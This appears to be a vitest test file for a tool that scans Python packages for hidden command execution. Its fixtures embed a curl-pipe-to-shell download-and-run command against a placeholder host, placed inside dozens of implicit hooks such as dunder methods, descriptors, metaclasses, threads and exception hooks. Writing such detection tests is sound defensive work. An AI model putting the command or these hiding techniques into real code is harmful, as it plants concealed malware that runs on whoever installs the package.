import { expect, it } from 'vitest'
import { usesOf } from '../../node/source-facts.test-support.ts'

const S = 'os.system("curl https://x.invalid/p | sh")'
const RUNS = /^import process os\.system \{[^}]*download-and-run/m
const having = (name: string, use: string, more = ''): string =>
  `class A${more}:\n    def ${name}(self, *a, **k):\n        ${S}\n${use}`

it.each([
  ['with', having('__enter__', 'with A(): pass')],
  ['the end of with', having('__exit__', 'with A() as a: pass')],
  ['async with', having('__aenter__', 'async def f():\n    async with A(): pass\nimport asyncio\nasyncio.run(f())')],
  ['a property', `class A:\n    @property\n    def x(self):\n        ${S}\nA().x`],
  ['a property by call', `class A:\n    x = property(lambda self: ${S})\nA().x`],
  [
    'a setter',
    `class A:\n    @property\n    def x(self):\n        pass\n    @x.setter\n    def x(self, v):\n        ${S}\na = A()\na.x = 1`,
  ],
  [
    'a getter beside a setter',
    `class A:\n    @property\n    def x(self):\n        ${S}\n    @x.setter\n    def x(self, v):\n        pass\nA().x`,
  ],
  ['a descriptor', `class D:\n    def __get__(self, *a):\n        ${S}\nclass A:\n    x = D()\nA().x`],
  ['a missing attribute', having('__getattr__', 'A().x')],
  ['any attribute', having('__getattribute__', 'A().x')],
  ['setting an attribute', having('__setattr__', 'a = A()\na.x = 1')],
  ['iteration', having('__iter__', 'for x in A(): pass')],
  ['next', `class A:\n    def __iter__(self):\n        return self\n    def __next__(self):\n        ${S}\nfor x in A(): pass`],
  ['a comprehension', having('__iter__', '[x for x in A()]')],
  ['a splat', having('__iter__', 'print(*A())')],
  ['list', having('__iter__', 'list(A())')],
  ['str', having('__str__', 'str(A())')],
  ['print', having('__repr__', 'print(A())')],
  ['a format string', having('__format__', 'x = f"{A()}"')],
  ['percent', having('__str__', 'x = "%s" % A()')],
  ['bool', having('__bool__', 'if A(): pass')],
  ['and', having('__bool__', 'A() and 1')],
  ['not', having('__len__', 'x = not A()')],
  ['while', having('__bool__', 'while A(): break')],
  ['equality', having('__eq__', 'A() == 1')],
  ['reflected equality', having('__eq__', '1 == A()')],
  ['order', having('__lt__', 'A() < 1')],
  ['addition', having('__add__', 'A() + 1')],
  ['reflected addition', having('__radd__', '1 + A()')],
  ['addition in place', having('__iadd__', 'a = A()\na += 1')],
  ['negation', having('__neg__', '-A()')],
  ['in', having('__contains__', '1 in A()')],
  ['an item', having('__getitem__', 'A()[1]')],
  ['setting an item', having('__setitem__', 'A()[1] = 1')],
  ['the end of an instance', having('__del__', 'A()')],
  ['after a dataclass', having('__post_init__', 'A()')],
  ['a held name', `class D:\n    def __set_name__(self, *a):\n        ${S}\nclass A:\n    x = D()`],
  ['a subclass', having('__init_subclass__', 'class B(A): pass')],
  ['a metaclass', having('__new__', 'class B(metaclass=A): pass', '(type)')],
  ['an inherited metaclass', having('__init__', 'class B(metaclass=A): pass\nclass C(B): pass', '(type)')],
  ['a thread', 'import threading\n' + having('run', 'A().start()', '(threading.Thread)')],
  ['a process', 'import multiprocessing\n' + having('run', 'p = A()\np.start()', '(multiprocessing.Process)')],
  [
    'a thread that starts itself',
    `from threading import Thread\nclass A(Thread):\n    def __init__(self):\n        super().__init__()\n        self.start()\n    def run(self):\n        ${S}\nA()`,
  ],
  ['a default', `import collections\ncollections.defaultdict(lambda: ${S})[1]`],
  ['a hook of json', `import json\njson.loads("{}", object_hook=lambda d: ${S})`],
  ['the hook of errors', `import sys\nsys.excepthook = lambda *a: ${S}`],
  ['a finder', 'import sys\n' + having('find_spec', 'sys.meta_path.insert(0, A())')],
])('runs what Python runs for %s', async (_, code) => {
  expect((await usesOf({ 'demo/__init__.py': `import os\n${code}\n` })).join('\n')).toMatch(RUNS)
})

it('leaves methods that nothing asks for to their callers', async () => {
  const code = `import os\nclass A:\n    def __enter__(self):\n        ${S}\n    def __str__(self):\n        ${S}\n    def run(self):\n        ${S}\nA()\n`
  expect((await usesOf({ 'demo/__init__.py': code })).map((use) => use.split(' ')[0])).toEqual(['call', 'call', 'call'])
})

it('gives static and class methods what Python gives them', async () => {
  const code = `import os\nclass A:\n    @staticmethod\n    def s(c): os.system(c)\n    @classmethod\n    def k(cls, c): cls.s(c)\nA().s("id")\nA.k("curl https://x.invalid/p | sh")\n`
  expect((await usesOf({ 'demo/__init__.py': code })).join('\n')).toMatch(/host-identity.*download-and-run/)
})
